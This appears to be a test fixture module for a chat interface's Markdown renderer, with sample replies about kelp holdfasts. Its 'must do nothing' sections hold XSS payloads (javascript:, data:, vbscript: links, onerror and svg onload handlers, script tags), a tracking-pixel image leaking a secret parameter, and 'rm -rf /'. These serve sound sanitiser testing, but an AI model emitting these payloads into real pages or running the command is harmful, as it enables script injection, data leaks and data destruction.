// @ts-check
// An answer in Markdown, with some of what a page must not fall for: models repeat what they were fed.

/** @type {import('./topics.mjs').Topic} */
export const markdown = {
  words: /\bmarkdown\b/i,
  opening: (quoted) => `You ask ${quoted}, and the answer may use **Markdown**, *as it arrives*.`,
  detour: (quoted) => `${quoted} goes without Markdown.`,
  told: [
    'It begins with a plain sentence, so that the page has something to show at once.',
    '## How kelp holds on',
    '1. The **haptera** creep into cracks of the rock,\n2. set there like *cold glue*,\n3. and let go of nothing. 🌊',
    '| Part | What it does | Where to look |\n| --- | --- | --- |\n| blade | eats light | near the surface |\n| stipe | gives way | in the swell |\n| holdfast | holds | [in a dictionary](https://en.wiktionary.org/wiki/holdfast) |',
    "```js\nconst reply = stream('/api/chat', { json: { messages } })\nawait render(reply, element, { writer: markdown })\n```",
    '### What must do nothing',
    '- a link [that runs a script](javascript:alert%28document.domain%29), one [in disguise](JaVaScRiPt:alert%281%29), one [with data](data:text/html,<script>alert%281%29</script>),\n- an image ![that runs a script](javascript:alert%281%29) or ![that tells on you](https://example.com/pixel.png?secret=1),\n- <img src=x onerror=alert(1)> and <script>alert(1)</script>, which are text like any other,\n- `rm -rf /`, which nobody runs.',
    '> Whatever a model says is somebody else’s text. It may look well, from Ålesund to São Paulo; it may not act. ✨',
  ],
  retold: [
    'Other words this time, and other marks.',
    '## What a holdfast is not',
    'It is **no root**: a root feeds its plant, and this only *grips*. 🌿',
    '- [x] grow downwards\n- [x] harden\n- [ ] let go',
    '| Fault | What you see |\n| --- | --- |\n| cut | the rest, a moment later |\n| reset | the same |\n| stall | patience, then the same |',
    '```sh\nnpm install && npm start\n```',
    '> A [link](vbscript:msgbox%281%29) stays what it says, and ![an image](data:image/svg+xml,<svg onload=alert%281%29>) stays out. ✨',
  ],
}
